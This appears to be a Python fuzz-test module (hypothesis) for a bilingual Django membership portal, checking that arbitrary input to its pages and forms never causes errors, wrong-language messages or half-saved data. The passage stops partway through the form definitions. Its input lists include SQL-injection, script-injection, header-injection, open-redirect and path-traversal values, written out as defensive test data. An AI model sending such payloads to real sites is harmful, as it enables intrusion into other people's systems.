"""Fuzz tests (hypothesis): every query parameter of every public page, and every form a person can
reach, with arbitrary input.

What the portal promises ("Safe input", "Bilingual") must hold for any input, not only the cases
the example-based tests in tests/<app>/test_bad_input.py thought of:

- the answer is never a 5xx (the test client re-raises a view's exception, so hypothesis shrinks
  it to the smallest input that breaks);
- a page with a bad address answers 200, 400 (the translated 400 page) or 404;
- a refused form comes back with the error next to the field it is about, in the page's language
  (Japanese under /ja/, English under /en/); a refusal told by a message after a redirect is in
  the page's language too;
- nothing is half-saved: a refused post leaves every row of the portal's tables (and every stored
  file) exactly as it was.

Each test builds its world once (hypothesis runs many examples in one test function); every
example runs in a savepoint that is rolled back afterwards, so each starts from the same rows.
"""

import datetime
import html
import io
import itertools
import os
import re
import urllib.parse
from dataclasses import dataclass

import pytest
from django.apps import apps
from django.contrib.messages import constants as message_levels
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection, transaction
from django.urls import Resolver404
from django.utils import timezone
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image

from meetings.governance import services as governance
from meetings.models import CalendarFeed, Meeting, Registration
from members.models import Affiliation, Institution, MembershipApplication
from members.notifications import registry
from members.notifications.models import Notification, NotificationPreference
from members.notifications.tokens import make_token
from members.notifications.tokens import read_token as read_unsubscribe_token
from members.regions import PREFECTURE_CHOICES, REGIONS
from members.services.imports import IMPORT_COLUMNS
from members.spreadsheets import FORMULA_STARTS
from members.tokens import application_edit_token, read_application_token
from tests.cooperation.conftest import make_expertise, make_need
from tests.factories import (
    AffiliationFactory,
    EmailDomainFactory,
    InstitutionFactory,
    UserFactory,
    WorkingGroupFactory,
    coordinator_of,
    secretariat_user,
    staff_of,
)
from tests.url_names import url_name
from working_groups.cooperation.models import Need, Partner
from working_groups.cooperation.tokens import edit_token as need_edit_token
from working_groups.models import Initiative, Membership, Participation, WorkingGroup
from working_groups.progress.models import Commitment, Question, YearlyReport, current_fiscal_year

pytestmark = pytest.mark.django_db

# Examples per test: enough for the suite to stay quick; FUZZ_SCALE=10 searches longer, by hand.
SCALE = int(os.environ.get("FUZZ_SCALE", "1"))
FORM_EXAMPLES = 25 * SCALE
QUERY_EXAMPLES = 60 * SCALE
PAGE_EXAMPLES = 15 * SCALE
FUZZ = settings(
    deadline=None,
    database=None,  # nothing written into the repository; a failure prints the input to reproduce it
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
)

# ---------------------------------------------------------------------------------------------
# Arbitrary input
# ---------------------------------------------------------------------------------------------

# Text a person (or a robot) might send, chosen for the code paths it reaches: NUL and control
# characters, SQL and LIKE metacharacters, numbers Python parses but a database cannot hold,
# digits Python calls digits but int() refuses, dates at the ends of the calendar, Unicode that
# grows under NFKC, and lengths just past every limit.
NASTY = [
    "", " ", "\u3000", "\x00", "a\x00b", "\x01\x02\x1b\x1f\x7f", "\r\n", "\t", "\n\n\n",
    "%", "%%", "_", "\\", "'", '"', "' OR '1'='1", "%' --", "\\%_", "[a-z]", "*", "?", ";", "--",
    "0", "-1", "-0", "00", "1.5", "1e309", "NaN", "inf", "-inf", "9" * 30, "-" + "9" * 30, "9" * 5000,
    "²", "¹²", "١٢", "１２", "0x10", "+1", " 1 ", "1_000", "2147483648", "-2147483649", "9223372036854775808",
    "32768", "65536",
    "0001-01-01", "9999-12-31", "0001-01-01T00:00", "0001-01-01T09:00", "9999-12-31T23:59", "2024-02-30",
    "2024-13-01", "24:00", "23:59:60", "-1:00", "00:00", "1900-01-01T00:00",
    "javascript:alert(1)", "http://", "https://[::1", "http://" + "a" * 300 + ".example", "https://例え.テスト/",
    "//evil.example/", "/ok\nSet-Cookie: x=1", "/ok\r\nLocation: https://evil.example/", "https://a.example/\x00",
    "<script>alert(1)</script>", "{{ 7|add:7 }}", "{% debug %}", "%(name)s", "{0}",
    "a" * 201, "あ" * 201, "ﷺ" * 200, "㍿" * 200, "x" * 100_001,
    "🙂", "👨‍👩‍👧", "\u202e", "\ufeff", "\u200b", "𝔸", "Ⅻ", "ﾃｽﾄ", "İ", "ß", "\U0010ffff",
    "approve", "refuse", "on", "true", "None", "null", "[]", "{}",
]
# What a URL or a form can carry: anything but a lone surrogate.
CHARACTERS = st.characters(exclude_categories=("Cs",))


def texts():
    """Arbitrary text: the list above, any Unicode, ASCII, numbers, dates and times, long runs."""
    return st.one_of(
        st.sampled_from(NASTY),
        st.text(CHARACTERS, max_size=30),
        st.text(st.characters(min_codepoint=0, max_codepoint=0x7F), max_size=30),
        st.integers(min_value=-(10**40), max_value=10**40).map(str),
        st.decimals(allow_nan=True, allow_infinity=True).map(str),
        st.datetimes().map(lambda d: d.strftime("%Y-%m-%dT%H:%M")),
        st.dates().map(str),
        st.times().map(lambda t: t.strftime("%H:%M")),
        st.builds(lambda c, n: c * n, st.sampled_from(["a", "あ", "9", "%", "ﷺ", "\x00", " "]),
                  st.sampled_from([99, 100, 101, 150, 151, 190, 191, 200, 201, 250, 251, 1001, 2001, 4001])),
    )


# Numbers as a robot writes them: digits that str.isdigit() accepts and int() refuses (², ¹),
# digits int() reads but a database cannot hold, and what a page number must not be.
NUMBERS = ["²", "¹²", "٣", "１", "0", "-1", "+1", "01", " 1", "1 ", "1.0", "1e3", "0x1", "1_0", "9" * 20,
           "9" * 5000, "-" + "9" * 20, "2147483648", "9223372036854775808"]
SUPERSCRIPT = str.maketrans("0123456789", "⁰¹²³⁴⁵⁶⁷⁸⁹")
FULL_WIDTH = {c: chr(ord(c) + 0xFEE0) for c in map(chr, range(0x21, 0x7F))}


def mutations(alternatives):
    """One of the field's own values, changed a little: a character added, digits written
    another way, repeated past its limit, a different case."""
    return st.builds(
        lambda value, how, extra: how(value, extra),
        st.sampled_from(list(alternatives)),
        st.sampled_from([
            lambda v, x: v + x, lambda v, x: x + v, lambda v, x: v[: len(v) // 2] + x + v[len(v) // 2:],
            lambda v, x: v.translate(SUPERSCRIPT), lambda v, x: "".join(FULL_WIDTH.get(c, c) for c in v),
            lambda v, x: v * 60, lambda v, x: v.upper(), lambda v, x: v + "0" * 30, lambda v, x: "-" + v,
            # a date or a time at the ends of the calendar (Japan time is UTC+9)
            lambda v, x: re.sub(r"\d{4}", "0001", v, count=1), lambda v, x: re.sub(r"\d{4}", "9999", v, count=1),
            lambda v, x: re.sub(r"\d\d:\d\d", "09:00", re.sub(r"\d{4}-\d\d-\d\d", "0001-01-01", v)),
            lambda v, x: re.sub(r"\d\d:\d\d", "23:59", re.sub(r"\d{4}-\d\d-\d\d", "9999-12-31", v)),
        ]),
        st.sampled_from(["\x00", "%", "_", "'", " ", "\u3000", "²", "/", ".", "\n"]),
    )


def values(alternatives=()):
    """A value for one field: one of its own valid values (or one changed a little), arbitrary
    text, a number written any way, missing, or repeated."""
    alternatives = [a for a in alternatives if isinstance(a, str)]
    own = [st.sampled_from(alternatives), mutations(alternatives)] if alternatives else []
    numeric = bool(alternatives) and all(a.isdigit() for a in alternatives)
    numbers = [st.sampled_from(NUMBERS)] * (2 if numeric else 1)  # an id or a page: numbers first
    one = st.one_of(*own, *numbers, texts())
    return st.one_of(one, st.none(), st.lists(one, min_size=2, max_size=3))


def _png(size, mode):
    out = io.BytesIO()
    Image.new(mode, size).save(out, "PNG")
    return out.getvalue()


def _image(fmt, size=(8, 6), mode="RGB"):
    out = io.BytesIO()
    Image.new(mode, size, "navy").save(out, fmt)
    return out.getvalue()


PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
CONTENTS = {
    "image": [_image("PNG"), _image("JPEG"), _image("GIF", mode="P"), _png((1, 1), "RGBA"), _png((3000, 1), "L"),
              _image("PNG")[:40], b"GIF89a" + b"\x00" * 20, b"\x89PNG\r\n\x1a\n" + b"\xff" * 40],
    "document": [PDF, PDF[:10], _image("PNG"), b"PK\x03\x04" + b"\x00" * 30, b"%PDF-" + b"\x00" * 5],
}
FILE_NAMES = ["file.png", "file.pdf", "file.jpg", "FILE.PDF", "file", ".png", "../../etc/passwd.png",
              "a" * 300 + ".pdf",
              "ファイル.pdf", "x.svg", "x.html", "x.exe", "nul\x00.pdf", "new\nline.pdf",
              "semi;colon\".pdf"]
CONTENT_TYPES = ["image/png", "image/jpeg", "application/pdf", "text/html", "application/octet-stream", "",
                 "image/svg+xml", "x/\x00"]


def uploads(kind):
    """A file for a file field: real files of the right kind, broken ones and arbitrary bytes."""
    return st.builds(
        lambda name, content, content_type: SimpleUploadedFile(name, content, content_type=content_type),
        st.one_of(st.sampled_from(FILE_NAMES), st.text(CHARACTERS, max_size=20)).filter(
            lambda name: os.path.basename(name) not in ("", ".", "..")),  # names a browser can send
        st.one_of(st.sampled_from(CONTENTS[kind]), st.binary(max_size=300)),
        st.sampled_from(CONTENT_TYPES),
    )


VALID_CSV_ROW = {"slug": "kita-univ", "name_ja": "北大学", "name_en": "Kita University", "name_kana": "きただいがく",
                 "kind": "national", "category": "participating", "prefecture": "1",
                 "website": "https://kita.example.ac.jp", "joined_on": "2021-07-29", "target_year": "2050",
                 "email_domains": "kita.example.ac.jp"}


@st.composite
def csv_uploads(draw):
    """A member list: the real columns (some missing or doubled), rows with cells changed to
    arbitrary text, in an encoding the import reads or one it does not."""
    import csv

    columns = draw(st.one_of(st.just(IMPORT_COLUMNS), st.lists(st.sampled_from(IMPORT_COLUMNS + ["extra", ""]),
                                                                max_size=12)))
    rows = []
    for n in range(draw(st.integers(0, 3))):
        row = {c: VALID_CSV_ROW.get(c, "") for c in columns}
        row["slug"] = f"fuzz-univ-{n}"
        row["email_domains"] = f"fuzz{n}.example.ac.jp"
        for name in draw(st.lists(st.sampled_from(columns), max_size=3, unique=True)) if columns else []:
            row[name] = draw(texts())
        rows.append(row)
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(columns)
    for row in rows:
        writer.writerow([row.get(c, "") for c in columns])
    text = out.getvalue()
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "shift_jis", "utf-16", "latin-1"]))
    data = text.encode(encoding, errors="replace")
    data = draw(st.one_of(st.just(data), st.binary(max_size=200), st.just(data + b"\x00\xff\xfe"),
                          st.just(b'"' + b"x" * 140_000 + b'"\n')))
    return SimpleUploadedFile("members.csv", data, content_type=draw(st.sampled_from(["text/csv", ""])))


# ---------------------------------------------------------------------------------------------
# What the person sees
# ---------------------------------------------------------------------------------------------

JAPANESE = re.compile(r"[\u3040-\u30ff\u3400-\u9fff\uff66-\uff9f]")
# Django's and our own English error wording: none of it may reach a Japanese page.
ENGLISH = ["This field", "Enter a", "Ensure this", "Select a valid", "is not one of", "Upload a valid",
           "The submitted", "No file", "Null characters", "is required", "Please", "Choose", "Give the",
           "must be", "already", "too long", "too large", "not allowed", "valid"]
# Japanese wording of errors: none of it may reach an English page.
JAPANESE_WORDING = ["してください", "このフィールド", "必須", "正しく", "入力", "以上", "以下", "文字", "すでに",
                    "選んで"]

# A field's errors, a form's own (nonfield) and a formset's own (nonform: too many lines, say)
ERRORLIST = re.compile(r'<ul class="errorlist(?P<nonfield> nonfield| nonform)?"(?: id="(?P<id>[^"]*)")?>'
                       r'(?P<items>.*?)</ul>', re.S)


def without(text: str, submitted) -> str:
    """``text`` without what the person typed (a message may quote it, in any language)."""
    for value in sorted(submitted, key=len, reverse=True):
        for variant in {value, value.strip(), value.strip().lower(), value.lstrip("@").strip().lower()}:
            if len(variant) > 1:
                text = text.replace(variant, "")
    return text


def assert_in_language(messages, lang, submitted, where):
    for message in messages:
        rest = without(message, submitted)
        if lang == "ja":
            assert JAPANESE.search(rest), f"{where}: not in Japanese: {message!r}"
            for english in ENGLISH:
                assert english not in rest, f"{where}: English in a Japanese page: {message!r}"
        else:
            for japanese in JAPANESE_WORDING:
                assert japanese not in rest, f"{where}: Japanese in an English page: {message!r}"


def error_texts(page: str) -> list[str]:
    return [html.unescape(re.sub(r"<[^>]+>", "", item)) for match in ERRORLIST.finditer(page)
            for item in re.findall(r"<li>(.*?)</li>", match.group("items"), re.S)]


def assert_error_next_to(page: str, html_name: str):
    """The field's errorlist sits in the field's own block (or, for an agenda line, its own table
    cell), and the field's input is in that block."""
    marker = f'<ul class="errorlist" id="id_{html_name}_error">'
    at = page.find(marker)
    assert at != -1, f"{html_name}: the error is not shown next to the field"
    ends = [i for i in (page.find('<div class="field', at + len(marker)), page.find("</td>", at)) if i != -1]
    block = page[at:min(ends, default=len(page))]
    assert f'name="{html_name}"' in block, f"{html_name}: the error is not next to the field"


# The context names a page gives its forms: a need's page has its interest and reason forms, the
# partner picker its form to create a partner.
FORM_KEYS = ("form", "agenda", "interest_form", "reason_form", "create_form")


def bound_forms(response):
    """The forms the page was rendered with (a formset's forms too)."""
    found = []
    for key in FORM_KEYS:
        try:
            obj = response.context[key]
        except KeyError:
            continue
        if hasattr(obj, "forms"):
            found.extend(obj.forms)
            found.append(obj)
        elif obj is not None and getattr(obj, "is_bound", False):
            found.append(obj)
    return found


def assert_form_explains(response, lang, submitted):
    """The form again: every error shown next to its field, in the page's language."""
    page = response.content.decode()
    forms_with_errors = [f for f in bound_forms(response) if not hasattr(f, "forms") and f.errors]
    formsets = [f for f in bound_forms(response) if hasattr(f, "forms")]
    # the member import's report of row errors (a progress page's "report" is a yearly report)
    import_report = response.context.get("report") if hasattr(response.context.get("report"), "errors") else None
    assert forms_with_errors or any(fs.non_form_errors() for fs in formsets) or import_report is not None, \
        "refused, but no error is shown"
    for form in forms_with_errors:
        for name in form.errors:
            if name == "__all__":
                assert 'class="errorlist nonfield"' in page, "the form's own error is not shown"
            else:
                assert_error_next_to(page, form.add_prefix(name))
    shown = error_texts(page)
    if import_report is not None:
        shown += [str(message) for _, message in import_report.errors]
    assert shown, "refused, but no error text on the page"
    assert_in_language(shown, lang, submitted, "form error")


def queued_messages(response):
    storage = getattr(response.wsgi_request, "_messages", None)
    return list(getattr(storage, "_queued_messages", []))


# ---------------------------------------------------------------------------------------------
# Nothing half-saved
# ---------------------------------------------------------------------------------------------

SNAPSHOT_APPS = {"members", "working_groups", "cooperation", "progress", "meetings", "governance", "dissemination",
                 "account", "mfa"}


def snapshot() -> dict:
    """Every row of the portal's tables (and the many-to-many tables between them): on PostgreSQL a
    digest of each table's rows (every column, in primary key order), all tables in one query (the
    rows themselves, loaded table by table, were a fifth of the fuzz's time); elsewhere the rows."""
    models = [m for m in apps.get_models(include_auto_created=True) if m._meta.app_label in SNAPSHOT_APPS
              or (m._meta.auto_created and m._meta.auto_created._meta.app_label in SNAPSHOT_APPS)]
    if connection.vendor != "postgresql":
        return {m._meta.label: list(m._default_manager.order_by("pk").values_list()) for m in models}
    quote = connection.ops.quote_name
    sql = " UNION ALL ".join(
        f"SELECT %s, count(*), md5(coalesce(string_agg(t::text, '|' ORDER BY t.{quote(m._meta.pk.column)}), ''))"
        f" FROM {quote(m._meta.db_table)} t" for m in models)
    with connection.cursor() as cursor:
        cursor.execute(sql, [m._meta.label for m in models])
        return {label: (count, digest) for label, count, digest in cursor.fetchall()}


def stored_files(media) -> set:
    return {p for p in media.rglob("*") if p.is_file()} if media.exists() else set()


def submitted_strings(data) -> list[str]:
    out = []
    for value in data.values():
        for v in value if isinstance(value, list) else [value]:
            if isinstance(v, str):
                out.append(v)
    return out


# ---------------------------------------------------------------------------------------------
# The world: one of each role and of each object a form acts on
# ---------------------------------------------------------------------------------------------


@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


class World:
    """The people and objects the forms act on (a plain class: hypothesis prints it as one word)."""

    alpha: Institution
    beta: Institution
    energy: WorkingGroup
    campus: WorkingGroup
    contact: object
    coordinator: object
    staff: object
    member: object
    user: object
    secretariat: object
    applicant_of_pending: object
    pending_affiliation: Affiliation
    staff_affiliation: Affiliation
    application: MembershipApplication
    returned: MembershipApplication
    pending_membership: Membership
    active_membership: Membership
    pending_participation: Participation
    initiative: Initiative
    published: Initiative
    meeting: Meeting
    registration: Registration
    failed_notification: Notification
    general: WorkingGroup
    rows: dict  # snapshot() of all of it

    def __init__(self, **objects):
        self.__dict__.update(objects)

    def __repr__(self):
        return "<world>"


@pytest.fixture
def world(module_world, media) -> World:
    """Built once for the module (tests/conftest.py, ``_module_world``; it makes no file): each test gets
    a copy, and ``media`` as its media root."""
    return module_world


def make_world(media_root) -> World:
    general = WorkingGroupFactory(tier=WorkingGroup.Tier.GENERAL, slug="general-meeting", name_ja="総会",
                                  name_en="General Meeting")
    alpha = InstitutionFactory(slug="alpha", name_ja="甲大学", name_en="Alpha University", name_kana="こうだいがく",
                               website="https://alpha.example.ac.jp")
    beta = InstitutionFactory(slug="beta", name_ja="乙大学", name_en="Beta University", name_kana="おつだいがく")
    EmailDomainFactory(institution=alpha, domain="alpha.example.ac.jp")
    EmailDomainFactory(institution=beta, domain="beta.example.ac.jp")
    energy = WorkingGroupFactory(slug="energy", name_ja="エネルギーWG", name_en="Energy WG", coordinators=[alpha])
    campus = WorkingGroupFactory(slug="campus", name_ja="キャンパスWG", name_en="Campus WG", is_open=True)
    contact = staff_of(alpha, role=Affiliation.Role.CONTACT, email="contact@alpha.example.ac.jp")
    coordinator = coordinator_of(energy, alpha, email="coordinator@alpha.example.ac.jp")
    staff = staff_of(beta, email="staff@beta.example.ac.jp")
    member = staff_of(beta, email="member@beta.example.ac.jp")
    active_membership = Membership.objects.create(group=energy, user=member, institution=beta,
                                                  status=Membership.Status.ACTIVE)
    user = UserFactory(email="someone@alpha.example.ac.jp")
    applicant = UserFactory(email="applicant@alpha.example.ac.jp")
    pending_affiliation = AffiliationFactory(user=applicant, institution=alpha, status=Affiliation.Status.PENDING)
    staff_affiliation = Affiliation.objects.get(user=coordinator)
    waiting = staff_of(beta, email="waiting@beta.example.ac.jp")
    pending_membership = Membership.objects.create(group=energy, user=waiting, institution=beta)
    pending_participation = Participation.objects.create(group=energy, institution=beta)
    secretariat = secretariat_user(email="desk@coalition.example.org")
    application = MembershipApplication.objects.create(
        name_ja="申込大学", name_en="Applicant University", name_kana="もうしこみだいがく", kind="private",
        category="participating", prefecture="13", website="https://apply.example.ac.jp",
        applicant_name="申込 太郎", applicant_title="課長", applicant_email="taro@apply.example.ac.jp",
        representative_name="学長 一郎", representative_title="学長")
    returned = MembershipApplication.objects.create(
        name_ja="差戻大学", name_en="Returned University", name_kana="さしもどしだいがく", kind="public",
        category="cooperating", prefecture="20", website="https://returned.example.ac.jp",
        applicant_name="差戻 花子", applicant_title="係長", applicant_email="hanako@returned.example.ac.jp",
        representative_name="学長 二郎", representative_title="学長", status=MembershipApplication.Status.RETURNED,
        decided_at=timezone.now(), reason="英語名を正式名称にしてください。")
    initiative = Initiative.objects.create(
        institution=alpha, author=coordinator, slug="solar-roof", title="屋上太陽光", summary="概要",
        body="本文", prefecture="13", started_on=datetime.date(2022, 4, 1))
    initiative.themes.add(energy)
    published = Initiative.objects.create(
        institution=alpha, author=coordinator, slug="zeb-campus", title="ZEBキャンパス", summary="概要",
        body="本文", prefecture="13", started_on=datetime.date(2021, 4, 1), status=Initiative.Status.PUBLISHED,
        published_at=timezone.now())
    published.themes.add(energy)
    starts = timezone.localtime().replace(hour=14, minute=0, second=0, microsecond=0) + datetime.timedelta(days=20)
    meeting = Meeting.objects.create(
        kind="group", group=energy, title_ja="第3回エネルギーWG", starts_at=starts,
        ends_at=starts + datetime.timedelta(hours=2), format="hybrid", venue="甲大学 会議室",
        online_url="https://meet.example.org/energy", capacity=30, visibility="members")
    registration = Registration.objects.create(meeting=meeting, user=member, mode="online")
    failed = Notification.objects.create(kind="meeting_announced", email="gone@example.org",
                                         status=Notification.Status.FAILED, dedup_key="fuzz-failed")
    # the general meeting: a session with a motion in each state the forms act on, alpha's representative
    representative = staff_of(alpha, role=Affiliation.Role.REPRESENTATIVE, email="rep@alpha.example.ac.jp")
    session = Meeting.objects.create(kind="general", group=general, title_ja="第9回総会", starts_at=starts,
                                     ends_at=starts + datetime.timedelta(hours=2), visibility="members")
    motion = {"title_ja": "議案", "text_ja": "本文", "kind": "other"}
    draft = governance.motion_create(by=secretariat, session=session, data=motion)
    on_agenda = governance.motion_create(by=secretariat, session=session, data=motion)
    governance.motion_put_on_agenda(motion=on_agenda, by=secretariat)
    voting = governance.motion_create(by=secretariat, session=session, data=motion)
    governance.motion_put_on_agenda(motion=voting, by=secretariat)
    governance.motion_open_voting(motion=voting, by=secretariat)
    proposal = governance.motion_propose(by=representative, session=session, institution=alpha, data=motion)
    message = governance.message_save(by=secretariat, data={"audience": "group", "group": energy,
                                                            "subject_ja": "件名", "body_ja": "本文"})
    symposium = Meeting.objects.create(
        kind="symposium", title_ja="公開シンポジウム", starts_at=starts, ends_at=starts + datetime.timedelta(hours=3),
        format="hybrid", venue="甲大学 講堂", online_url="https://meet.example.org/open", capacity=100,
        visibility="public", open_to_public=True)
    # cooperation: a partner, a published need, one waiting for review, one returned to its submitter,
    # beta's expertise; progress: alpha's commitment, a report waiting for review, a question to answer
    partner = Partner.objects.create(slug="midorino", kind=Partner.Kind.MUNICIPALITY, name_ja="みどり野市",
                                     name_en="Midorino City", prefecture="20")
    need = make_need(title="森林の炭素吸収量の調査", themes=[energy], partner=partner)
    waiting_need = make_need(title="審査待ちの地域課題", themes=[energy], status=Need.Status.SUBMITTED)
    returned_need = make_need(title="差し戻し中の課題", themes=[energy], status=Need.Status.RETURNED,
                              email="asked@town.example.jp")
    expertise = make_expertise(institution=beta, author=staff, title="森林の炭素吸収量モニタリング", themes=[energy])
    Commitment.objects.create(institution=alpha, target_year=2050, baseline_year=2013, baseline_emissions=1000)
    report = YearlyReport.objects.create(
        institution=alpha, fiscal_year=current_fiscal_year() - 2, scope1=100, scope2=200, energy_gj=1000,
        renewable_share=20, floor_area=10000, headcount=500, status=YearlyReport.Status.SUBMITTED,
        submitted_by=contact, submitted_at=timezone.now())
    question = Question.objects.create(initiative=published, asked_by=staff, institution=beta,
                                       body="導入費用はいくらでしたか。")
    world = World(alpha=alpha, beta=beta, energy=energy, campus=campus, contact=contact, coordinator=coordinator,
                  staff=staff, member=member, user=user, secretariat=secretariat, applicant_of_pending=applicant,
                  pending_affiliation=pending_affiliation, staff_affiliation=staff_affiliation,
                  application=application, returned=returned, pending_membership=pending_membership,
                  active_membership=active_membership, pending_participation=pending_participation,
                  initiative=initiative, published=published, meeting=meeting, registration=registration,
                  failed_notification=failed, general=general, representative=representative, session=session,
                  draft_motion=draft, agenda_motion=on_agenda, voting_motion=voting, proposal=proposal,
                  message=message, symposium=symposium, partner=partner, need=need, waiting_need=waiting_need,
                  returned_need=returned_need, expertise=expertise, report=report, question=question)
    world.rows = snapshot()
    return world


# ---------------------------------------------------------------------------------------------
# The forms
# ---------------------------------------------------------------------------------------------

LANGS = ["ja", "en"]


def _meeting_data(w: World) -> dict:
    starts = timezone.localtime().replace(hour=14, minute=0, second=0, microsecond=0) + datetime.timedelta(days=21)
    fmt = "%Y-%m-%dT%H:%M"
    return {
        "kind": "group", "group": str(w.energy.pk), "title_ja": "第9回エネルギーWG", "title_en": "9th Energy WG",
        "description_ja": "取組の共有", "description_en": "", "starts_at": starts.strftime(fmt),
        "ends_at": (starts + datetime.timedelta(hours=2)).strftime(fmt), "format": "hybrid",
        "venue": "甲大学 会議室A", "online_url": "https://meet.example.org/energy", "capacity": "30",
        "registration_deadline": (starts - datetime.timedelta(days=3)).strftime(fmt), "visibility": "members",
        "agenda-TOTAL_FORMS": "2", "agenda-INITIAL_FORMS": "0", "agenda-MIN_NUM_FORMS": "0",
        "agenda-MAX_NUM_FORMS": "1000", "agenda-0-time": "14:00", "agenda-0-item_ja": "開会",
        "agenda-0-item_en": "Opening", "agenda-0-speaker": "幹事", "agenda-1-time": "", "agenda-1-item_ja": "",
    }


def _meeting_edit_data(w: World) -> dict:
    data = _meeting_data(w)
    data.update({"agenda-TOTAL_FORMS": "1", "agenda-INITIAL_FORMS": "0"})
    return data


def _initiative_data(w: World, institution: Institution | None) -> dict:
    data = {
        "language": "ja", "title": "学内ZEB化の取組", "summary": "省エネ改修の概要です。",
        "body": "## 本文\n\n改修しました。",
        "title_translated": "ZEB campus", "summary_translated": "", "themes": [str(w.energy.pk)], "partners": "長野県",
        "partner_institutions": [], "prefecture": "20", "started_on": "2022-04-01", "ended_on": "2024-03-31",
        "outcomes": "電力20%削減", "co2_reduction": "120.5", "capacity_kw": "", "cover_alt": "", "visibility": "public",
        "links_text": "事業のページ https://alpha.example.ac.jp/zeb",
    }
    if institution is not None:
        data["institution"] = str(institution.pk)
    return data


APPLICATION = {
    "name_ja": "信州テスト大学", "name_en": "Shinshu Test University", "name_kana": "しんしゅうてすとだいがく",
    "kind": "national", "category": "participating", "prefecture": "20", "website": "https://www.shinshu-test.ac.jp",
    "email_domain": "shinshu-test.ac.jp", "target_year": "2050", "applicant_name": "山田 太郎",
    "applicant_title": "環境推進室長", "applicant_email": "yamada@shinshu-test.ac.jp",
    "representative_name": "鈴木 一郎", "representative_title": "学長", "intended_groups": ["energy"], "message": "",
    "consent": "on",
}


@dataclass(frozen=True)
class Form:
    """A form a person can reach: who posts it, where, and a post that is accepted as it is."""

    who: str | None  # the World attribute of the person who posts it; None: a visitor
    path: object  # World -> the path after /<lang>
    valid: object  # World -> a post that is accepted
    files: tuple = ()  # (field, kind, required)
    shows_form: bool = True  # a GET shows the form (its fields and choices are read from it)
    tells_by_message: bool = False  # one button: the answer is a redirect with a message
    accepted_with_200: bool = False  # success is a page, not a redirect
    extra: tuple = ()  # more names a robot might send
    outcome: object = None  # (World, response): the one outcome known for any post, asserted when set
    hostile: object = None  # World -> {field: [values]}: ids the person may not use (another institution's)


def _unsubscribed(w, response):
    """RFC 8058's one-click POST: whatever the body, the signed link turns the digest off, and only it."""
    assert response.status_code == 200, f"unsubscribe: {response.status_code}"
    choices = dict(NotificationPreference.objects.filter(user=w.user).values_list("kind", "delivery"))
    assert choices == {"weekly_digest": "never"}, choices


FORMS = {
    # members: the public, the account, the institution's contact, the secretariat
    "application": Form(None, lambda w: "/members/apply/", lambda w: dict(APPLICATION)),
    "application-edit": Form(
        None, lambda w: f"/members/apply/edit/{application_edit_token(w.returned)}/",
        lambda w: {**APPLICATION, "name_ja": "差戻大学", "name_en": "Returned University",
                   "name_kana": "さしもどしだいがく"}),
    "institution-edit": Form(
        "contact", lambda w: "/members/alpha/edit/",
        lambda w: {"name_ja": "甲大学", "name_en": "Alpha University", "name_kana": "こうだいがく",
                   "website": "https://alpha.example.ac.jp", "profile_ja": "新しい紹介文", "profile_en": "",
                   "target_year": "", "email_domains": "alpha.example.ac.jp\nlab.alpha.example.ac.jp"},
        files=(("logo", "image", False),)),
    "account": Form("user", lambda w: "/account/", lambda w: {"name": "新しい 名前", "language": "en"}),
    "affiliation-request": Form(
        "user", lambda w: "/account/affiliations/new/",
        lambda w: {"institution": str(w.alpha.pk), "title": "研究員", "message": "よろしくお願いします。"}),
    "affiliation-decide": Form(
        "contact", lambda w: f"/account/affiliations/{w.pending_affiliation.pk}/decide/",
        lambda w: {"decision": "approve", "role": "staff", "reason": ""}, shows_form=False, tells_by_message=True,
        extra=("next",)),
    "affiliation-role": Form(
        "contact", lambda w: f"/account/affiliations/{w.staff_affiliation.pk}/role/", lambda w: {"role": "contact"},
        shows_form=False, tells_by_message=True, extra=("next",)),
    "affiliation-end": Form(
        "contact", lambda w: f"/account/affiliations/{w.staff_affiliation.pk}/end/",
        lambda w: {"reason": "異動のため"}, shows_form=False, tells_by_message=True, extra=("next",)),
    "notification-settings": Form(
        "user", lambda w: "/account/notifications/",
        lambda w: {k.key: "digest" if k.digestible else "never" for k in registry.choosable_kinds()}),
    "unsubscribe": Form(
        None, lambda w: f"/account/notifications/unsubscribe/{make_token(kind='weekly_digest', user_id=w.user.pk)}/",
        lambda w: {}, shows_form=False, accepted_with_200=True, extra=("List-Unsubscribe",),
        outcome=lambda w, response: _unsubscribed(w, response)),
    "application-review": Form(
        "secretariat", lambda w: f"/secretariat/applications/{w.application.pk}/",
        lambda w: {"decision": "return", "reason": "正式名称を確認してください。"}),
    "member-import": Form(
        "secretariat", lambda w: "/secretariat/members/import/", lambda w: {}, files=(("file", "csv", True),)),
    "institution-status": Form(
        "secretariat", lambda w: "/secretariat/members/beta/status/",
        lambda w: {"status": "suspended", "reason": "総会の決議による"}),
    "outbox-resend": Form(
        "secretariat", lambda w: f"/secretariat/outbox/{w.failed_notification.pk}/resend/", lambda w: {},
        shows_form=False, tells_by_message=True, extra=("next",)),
    # working groups and initiatives
    "group-create": Form(
        "secretariat", lambda w: "/working-groups/new/",
        lambda w: {"slug": "water", "name_ja": "水資源WG", "name_en": "Water WG", "description_ja": "水の取組",
                   "description_en": "", "coordinators": [str(w.beta.pk)], "is_open": "on", "order": "50"}),
    "group-edit": Form(
        "secretariat", lambda w: "/working-groups/energy/edit/",
        lambda w: {"slug": "energy", "name_ja": "エネルギーWG", "name_en": "Energy WG", "description_ja": "変更",
                   "description_en": "", "coordinators": [str(w.alpha.pk)], "order": "10"}),
    "group-join": Form(
        "staff", lambda w: "/working-groups/energy/join/",
        lambda w: {"institution": str(w.beta.pk), "message": "参加させてください。"}, shows_form=False,
        tells_by_message=True),
    "group-close": Form("secretariat", lambda w: "/working-groups/campus/close/", lambda w: {"reason": "総会決議"}),
    "membership-end": Form(
        "coordinator", lambda w: f"/working-groups/memberships/{w.active_membership.pk}/end/",
        lambda w: {"reason": "活動がないため"}, shows_form=False, tells_by_message=True, extra=("next",)),
    "membership-decide": Form(
        "coordinator", lambda w: f"/working-groups/memberships/{w.pending_membership.pk}/decide/",
        lambda w: {"decision": "refuse", "reason": "定員のため"}, shows_form=False, tells_by_message=True,
